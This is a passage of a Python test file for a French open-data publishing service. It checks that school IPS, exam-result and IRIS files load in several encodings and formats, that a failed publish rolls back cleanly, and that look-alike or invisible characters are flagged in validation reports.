def _decimal_commas(sheet: Sheet) -> Sheet:
    for r in sheet.rows:
        for name in ("IPS", "Ecart-type de l'IPS"):
            r[sheet.col(name)] = r[sheet.col(name)].replace(".", ",")
    return sheet


def _typed_cell(name: str, value: str) -> Any:
    if name == "Rentrée scolaire":
        return int(value)
    if name in ("IPS", "Ecart-type de l'IPS"):
        return float(value) if value else None
    return value


GOOD_IPS = [
    ("windows-1252-semicolon", "colleges-ips.csv", lambda: colleges_ips().csv(";", "cp1252"),
     "CSV, Windows-1252, séparateur point-virgule"),
    ("latin-1-tab", "colleges-ips.txt", lambda: colleges_ips().csv("\t", "latin-1"), "séparateur tabulation"),
    ("utf-8-bom-comma", "colleges-ips.csv", lambda: colleges_ips().csv(",", "utf-8-sig"),
     "CSV, UTF-8 (BOM), séparateur virgule"),
    ("utf-8-pipe-crlf", "colleges-ips.csv", lambda: colleges_ips().csv("|", newline="\r\n"),
     "CSV, UTF-8, séparateur barre verticale"),
    ("decimal-commas-semicolon", "colleges-ips.csv", lambda: _decimal_commas(colleges_ips()).csv(";"),
     "CSV, UTF-8, séparateur point-virgule"),
    ("decimal-commas-quoted-comma", "colleges-ips.csv",
     lambda: _decimal_commas(colleges_ips()).csv(",", quoting=csv.QUOTE_ALL), "CSV, UTF-8, séparateur virgule"),
    ("xlsx-typed-cells", "colleges-ips.xlsx", lambda: colleges_ips().xlsx(_typed_cell), "XLSX"),
    ("xlsx-text-cells-decimal-commas", "colleges-ips.xlsx", lambda: _decimal_commas(colleges_ips()).xlsx(), "XLSX"),
]


@pytest.mark.parametrize("name,filename,build,kind", GOOD_IPS, ids=[g[0] for g in GOOD_IPS])
def test_colleges_ips_is_accepted_in_every_dialect(name, filename, build, kind):
    frame, report, described = publishing.check_file(CI, build(), filename)
    assert report.ok, report.text("fr")
    assert kind in described
    assert report.ignored_columns == IPS_EXTRA
    assert ips_values(frame.to_dict("records")) == ORIGINAL_IPS


def test_shipped_dnb_file_with_decimal_commas_is_accepted_with_its_values():
    frame, report, described = publishing.check_file(DN, (SOURCES / DNB).read_bytes(), "dnb.csv")
    assert report.ok, report.text("fr")
    assert described == "CSV, UTF-8, séparateur virgule"
    source = read_source_csv(DNB, ",")
    assert any("," in r["taux_de_reussite"] for r in source)  # the file really has decimal commas
    expected = [(r["numero_college"], float(r["taux_de_reussite"].replace(",", ".")) if r["taux_de_reussite"] else None)
                for r in source]
    got = [(r["numero_college"], float(r["taux_de_reussite"]) if r["taux_de_reussite"] else None)
           for r in frame.to_dict("records")]
    assert got == expected


def test_shipped_iris_geojson_is_accepted_with_its_values():
    content = (SOURCES / IRIS).read_bytes()
    frame, report, described = publishing.check_file("iris-contours", content, "iris.geojson")
    assert report.ok, report.text("fr")
    assert described == "GEOJSON"
    features = json.loads(content)["features"]
    assert list(frame["CODE_IRIS"]) == [f["properties"]["CODE_IRIS"] for f in features]
    assert [json.loads(g) for g in frame["geometry"]] == [f["geometry"] for f in features]


def _french_date(iso: str) -> str:
    year, month, day = iso.split("-")
    return f"{day}/{month}/{year}"


def test_date_column_in_french_format_is_accepted_and_normalised():
    """No shipped schema has a `date` field: the collèges' directory carries one (`date_ouverture`),
    ignored by its schema, so the file is checked as shipped and against a schema that declares it."""
    sheet = Sheet.of(ANNUAIRE)
    iso = [r[sheet.col("date_ouverture")] for r in sheet.rows]
    assert all(re.fullmatch(r"\d{4}-\d{2}-\d{2}", d) for d in iso)
    for r in sheet.rows:
        r[sheet.col("date_ouverture")] = _french_date(r[sheet.col("date_ouverture")])
    content = sheet.csv(";", "utf-8-sig", newline="\r\n")

    frame, report, _ = publishing.check_file("colleges-annuaire", content, "annuaire.csv")
    assert report.ok, report.text("fr")
    assert "date_ouverture" in report.ignored_columns
    assert list(frame["numero_uai"]) == [r[sheet.col("numero_uai")] for r in sheet.rows]

    schema = Schema("ouvertures", {"fields": [
        {"name": "numero_uai", "type": "string", "constraints": {"required": True, "pattern": "[0-9]{7}[A-Z]"}},
        {"name": "date_ouverture", "type": "date", "constraints": {"required": True}},
    ], "primaryKey": ["numero_uai"]})
    normalised, dated = validate(schema, read_table(content, "annuaire.csv").frame)
    assert dated.ok, dated.text("fr")
    assert list(normalised["date_ouverture"]) == iso


# --- a publish that fails midway ------------------------------------------------------------------------

def _corrected_colleges_ips() -> bytes:
    """The shipped file with one IPS corrected (a real change, so publishing builds new curated rows)."""
    sheet = colleges_ips()
    old = float(sheet.rows[0][sheet.col("IPS")])
    return sheet.set(0, "IPS", f"{old + 1:.1f}").csv()


def _status(db, slug: str, version: int) -> str | None:
    return db.scalar("SELECT status FROM dataset_version WHERE dataset_slug = :s AND version = :v",
                     {"s": slug, "v": version})


def test_publish_failing_after_the_first_curated_table_leaves_the_served_version(server, db, monkeypatch):
    staged = publishing.stage(db, CI, _corrected_colleges_ips(), "colleges-ips-corrige.csv", "test", build=False)
    try:
        before = snapshot(server, db)
        written: list[str] = []
        insert = publishing._insert

        def insert_then_fail(conn, table, df, build_id):
            insert(conn, table, df, build_id)
            written.append(table.name)
            raise RuntimeError("disque plein")

        monkeypatch.setattr(publishing, "_insert", insert_then_fail)
        with pytest.raises(RuntimeError, match="disque plein"):
            publishing.publish(db, {CI: staged.version}, "test")
        monkeypatch.undo()
        assert len(written) == 1  # it did stop midway, one curated table written
        assert_unchanged(before, snapshot(server, db))
        assert _status(db, CI, staged.version) == "staged"
    finally:
        publishing.discard(db, CI, staged.version, "test")


def test_publish_failing_at_the_audit_record_leaves_the_served_version(server, db, monkeypatch):
    staged = publishing.stage(db, CI, _corrected_colleges_ips(), "colleges-ips-corrige.csv", "test")
    try:
        before = snapshot(server, db)
        reached: list[str] = []

        def refuse(conn, actor, action, *args, **kwargs):
            reached.append(action)  # after the dataset row and the version's status were updated
            raise RuntimeError("journal indisponible")

        monkeypatch.setattr(audit, "record", refuse)
        with pytest.raises(RuntimeError, match="journal indisponible"):
            publishing.publish(db, {CI: staged.version}, "test")
        monkeypatch.undo()
        assert reached == ["publish"]
        assert_unchanged(before, snapshot(server, db))
        assert _status(db, CI, staged.version) == "staged"
    finally:
        publishing.discard(db, CI, staged.version, "test")


def test_a_column_left_entirely_empty_is_read(db):
    """Official files often carry columns nobody filled in (e.g. DVF's `adresse_suffixe`)."""
    content, name = stored_file(db, "colleges-ips")
    lines = content.decode("utf-8-sig").splitlines()
    padded = "\n".join([lines[0] + ";Commentaire"] + [line + ";" for line in lines[1:]]).encode("utf-8")
    frame, report, _ = publishing.check_file("colleges-ips", padded, name)
    assert report.ok, report.text()
    assert frame["Commentaire"].isna().all() and len(frame) == len(lines) - 1


# --- look-alike and invisible characters: marked and named, never normalised away ----------------

class MarkedCells(HTMLParser):
    """The report's value cells: each as (its text, the characters inside its <mark> elements),
    and the text of the rule cell beside it."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.rows: list[tuple[str, list[str], str]] = []
        self._in_report = False
        self._cells: list[str] | None = None
        self._marks: list[str] = []
        self._mark: list[str] | None = None
        self._in_cell = False
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        if tag == "section" and dict(attrs).get("id") == "report":
            self._in_report = True
        elif self._in_report and tag == "tr":
            self._cells, self._marks = [], []
        elif self._in_report and tag == "td" and self._cells is not None:
            self._cells.append("")
            self._in_cell = True
        elif self._in_report and tag == "mark":
            self._mark = []

    def handle_endtag(self, tag):
        if tag == "section":
            self._in_report = False
        elif tag == "td":
            self._in_cell = False
        elif tag == "mark" and self._mark is not None:
            self._marks.append("".join(self._mark))
            self._mark = None
        elif tag == "tr" and self._cells:
            self.rows.append((self._cells[2], self._marks, " ".join(self._cells[3].split())))
            self._cells = None

    def handle_data(self, data):
        if self._cells and self._in_cell:
            self._cells[-1] += data
            if self._mark is not None:
                self._mark.append(data)


def test_look_alike_and_invisible_characters_are_marked_and_named_in_the_report(editor, db):
    sheet = colleges_ips()
    year, uai, ips = sheet.rows[0][sheet.col("Rentrée scolaire")], sheet.rows[1][sheet.col("UAI")], "95"
    typed_year = year[:1] + "O" + year[2:] if year[1] == "0" else "2O" + year[2:]  # letter O for the zero
    typed_uai = uai + "\u00a0"  # a no-break space after the code, as some exports write
    typed_ips = " 9\u200b5"  # a leading space, a zero-width space between the digits
    sheet.set(0, "Rentrée scolaire", typed_year).set(1, "UAI", typed_uai).set(2, "IPS", typed_ips)
    answer = upload(editor, CI, sheet.csv(), "colleges-ips-caracteres.csv")
    try:
        assert answer.status_code == 422
        rows = {value: (marks, rule) for value, marks, rule in MarkedCells(answer.get_data(as_text=True)).rows}
        # Each value is shown exactly as typed, its odd characters inside <mark>, and named beside it.
        assert typed_year in rows and typed_uai in rows and typed_ips in rows, list(rows)
        marks, rule = rows[typed_year]
        assert marks == ["O"]
        assert f"lettre O à la place du chiffre 0 (position {typed_year.index('O') + 1})" in rule
        assert rule.startswith(YEAR)
        marks, rule = rows[typed_uai]
        assert marks == ["\u00a0"] and f"espace insécable (position {len(typed_uai)})" in rule
        marks, rule = rows[typed_ips]
        assert marks == [" ", "\u200b"]
        assert "espace en début de valeur (position 1)" in rule and "caractère invisible (U+200B) (position 3)" in rule
    finally:
        discard_if_staged(db, answer)


def test_the_command_line_report_names_the_odd_characters_too():
    sheet = colleges_ips()
    sheet.set(0, "Rentrée scolaire", "2O23")
    frame, report, _ = publishing.check_file(CI, sheet.csv(), "colleges-ips.csv")
    assert frame is None
    (line,) = [t for t in report.text("fr").splitlines() if t.startswith(f"ligne {line_of(0)},")]
    assert "valeur « 2O23 »" in line and "lettre O à la place du chiffre 0 (position 2)" in line
    assert "letter O instead of the digit 0 (position 2)" in report.text("en")


def test_ordinary_values_are_not_marked():
    sheet = colleges_ips()
    sheet.set(0, "IPS", "900")  # too large, written plainly
    frame, report, _ = publishing.check_file(CI, sheet.csv(), "colleges-ips.csv")
    assert [p.value for p in report.problems] == ["900"]
    assert [p.oddities("fr") for p in report.problems] == [[]]


# --- DVF: a disposition number is digits ------------------------------------------------------------

DVF = "housing/demo-dvf-arras-2016-2025.csv"


def test_dvf_disposition_number_accepts_digits_only():
    sheet = Sheet.of(DVF, ",")
    assert publishing.check_file("dvf", sheet.csv(","), "dvf.csv")[1].ok  # the shipped "000001"
    for row, value in ((0, "1A"), (3, "un"), (5, "00001 ")):
        sheet.set(row, "numero_disposition", value)
    frame, report, _ = publishing.check_file("dvf", sheet.csv(","), "dvf.csv")
    assert frame is None
    found = [(p.line, p.column, p.value) for p in report.problems]
    assert found == [(line_of(0), "numero_disposition", "1A"), (line_of(3), "numero_disposition", "un"),
                     (line_of(5), "numero_disposition", "00001 ")]
    assert all(bad_format("dvf", "numero_disposition") in p.rule("fr") for p in report.problems)
    assert field_of("dvf", "numero_disposition")["example"] == "000001"
